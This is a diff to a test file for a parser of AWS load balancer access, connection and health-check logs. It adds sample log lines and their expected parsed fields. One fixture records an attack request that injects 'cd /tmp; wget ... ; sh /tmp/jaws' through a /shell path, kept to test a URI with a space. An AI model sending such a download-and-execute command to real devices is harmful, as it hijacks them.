@@ -266,6 +266,16 @@ describe("lines of other tools' tests, with other addresses", () => {
       { status: 200, duration: 0.171, host: 'shop.example.com' },
     ],
     [
+      'Elastic: a blank in the query',
+      'http 2022-05-12T06:41:29.051646Z app/shop-lb/3011821a43ee0c5e 203.0.113.20:41542 - -1 -1 -1 301 - 233 390 "GET http://192.0.2.1:80/shell?cd+/tmp;wget+ example.com/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://192.0.2.1:443/shell?cd+/tmp;wget+ example.com/jaws;sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri"',
+      { status: 301, path: '/shell', host: '192.0.2.1', duration: 0 },
+    ],
+    [
+      'Elastic: answered, but what was asked could not be read',
+      'http 2025-05-01T11:24:32.748149Z app/shop-lb/abcd1234efab5678 203.0.113.1:57273 - -1 -1 -1 200 - 0 272 "- http://shop.example.com:80-/ " "-" - - - "-" "-" "-" - 2025-05-01T11:24:32.720000Z "-" "-" "-" "-" "-" "-" "-" TID_00000000000000000000000000000000',
+      { status: 200, host: 'shop.example.com', duration: 0.028 },
+    ],
+    [
       '36 fields, of 2026',
       'http 2026-09-23T07:15:26.379899Z app/shop-lb/98e3a879de9d6b42 203.0.113.224:21790 - -1 -1 -1 404 - 127 162 "GET http://shop.example.com:80/ HTTP/1.0" "Mozilla/5.0 (compatible; Crawler/1.0; +https://www.example.com/crawler)" - - - "Root=1-6ab37c8e-5afd1aca560fd3a825162993" "-" "-" 0 2026-09-23T07:15:26.379000Z "fixed-response" "-" "-" "-" "-" "-" "-" TID_558e26a7adede44b9fdb98006014afcf "-" "-" "-" 203.0.113.60 "-" "-"',
       { status: 404, duration: 0 },
@@ -290,18 +300,23 @@ describe('lines that hold no request', () => {
       'connection log of an Application Load Balancer: no request on this line',
     ],
     [
+      'a client without a good certificate, from Elastic',
+      '2024-10-04T17:05:15.514108Z 198.51.100.39 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 - "CN=example.com,O=endEntity,L=Seattle,ST=Washington,C=US" NotBefore=2023-09-21T22:43:21Z;NotAfter=2026-06-17T22:43:21Z FEF257372D5C14D4 Failed:ClientCertUntrusted',
+      'connection log of an Application Load Balancer: the certificate of a client was refused, no request',
+    ],
+    [
       'IPv6, a client without a good certificate',
       '2023-11-21T07:11:32.882572Z 2001:db8::7 61814 443 TLSv1.3 TLS_AES_128_GCM_SHA256 0.012 "CN=shop client,O=Example" NotBefore=2022-11-21T00:00:00Z;NotAfter=2023-11-20T00:00:00Z FEF257372D5C14D4 Failed:ClientCertExpired',
       'connection log of an Application Load Balancer: the certificate of a client was refused, no request',
     ],
     [
       'a health check',
-      'http 2026-10-31T12:44:59.875678Z 0.019584011 10.0.0.12:80 shop-api PASS 200 -',
+      'http 2025-10-31T12:44:59.875678Z 0.019584011 172.31.20.97:80 HCLogsTestIPs PASS 200 -',
       'health check log of an Application Load Balancer: no request on this line',
     ],
     [
       'a health check that failed',
-      'http 2026-10-31T12:44:59.875678Z - 10.0.0.12:80 shop-api FAIL - RequestTimedOut',
+      'http 2025-10-31T12:44:58.901409Z 1.121980746 172.31.31.9:80 HCLogsTestIPs FAIL 502 TargetError',
       'health check log of an Application Load Balancer: a target failed its check, no request',
     ],
     [
